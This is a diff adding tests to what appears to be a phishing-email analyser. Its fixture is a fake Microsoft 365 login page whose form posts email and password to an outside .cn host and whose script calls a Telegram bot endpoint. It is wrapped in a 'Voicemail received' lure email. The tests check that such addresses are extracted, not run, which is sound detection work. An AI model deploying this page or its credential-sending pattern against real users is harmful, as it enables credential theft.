@@ -5,7 +5,7 @@ from __future__ import annotations
 import zlib
 from email.message import EmailMessage
 
-from whence.facts.documents import MAX_INFLATED, pdf_links
+from whence.facts.documents import MAX_INFLATED, page_links, pdf_links
 
 from tests.test_checks_core import analyse, ids
 
@@ -72,3 +72,27 @@ def test_a_pdfs_link_through_a_redirector_leads_on_to_where_the_click_ends() -> 
     assert ("redirect", "platform3355.top", "Open 05701.pdf") in ends
     r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://www.google.com/search?q=statement) >> >>")))
     assert [link["source"] for link in r["links"]] == ["attachment"]  # a search names no place
+
+
+PAGE = (b"<html><body><h1>Microsoft 365</h1><form action='https://kq7vz3.cn/p.php' method=post>"
+        b"<input name=email><input type=password name=pass></form><a href='/help'>Help</a>"
+        b"<script src='https://code.jquery.com/jquery.js'></script>"
+        b"<script>fetch(\"https:\\/\\/api.telegram.org\\/bot123\\/sendMessage\");</script></body></html>")
+
+
+def test_an_attached_pages_form_and_script_addresses_are_read_not_run() -> None:
+    """Where the typed password goes (the form, a fetch), not the libraries it loads or relative links."""
+    assert page_links(PAGE) == ["https://kq7vz3.cn/p.php", "https://api.telegram.org/bot123/sendMessage"]
+
+
+def test_an_attached_login_page_sends_its_links_to_the_link_checks() -> None:
+    msg = EmailMessage()
+    msg["From"] = "Microsoft 365 <no-reply@shop-mail.example>"
+    msg["To"] = "taro@example.jp"
+    msg["Subject"] = "Voicemail received"
+    msg.set_content("Open the attached file to listen.")
+    msg.add_attachment(PAGE, maintype="text", subtype="html", filename="Voicemail.html")
+    r = analyse(msg.as_bytes())
+    found = {(link["domain"], link["source"], link["text"]) for link in r["links"]}
+    assert ("kq7vz3.cn", "attachment", "Voicemail.html") in found
+    assert "attachment.html" in ids(r)
